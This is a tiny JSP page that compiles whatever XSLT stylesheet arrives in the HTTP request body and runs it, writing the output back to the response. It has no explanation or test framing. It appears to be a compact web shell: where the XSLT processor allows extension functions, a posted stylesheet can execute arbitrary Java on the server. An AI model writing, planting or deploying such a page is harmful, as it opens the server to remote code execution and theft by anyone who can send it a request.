<%@ page import="javax.xml.transform.*,javax.xml.transform.stream.*" %>
<%
Transformer t = TransformerFactory.newInstance().newTransformer(new StreamSource(request.getInputStream()));
t.transform(new StreamSource(new java.io.StringReader("<a/>")), new StreamResult(out));
%>
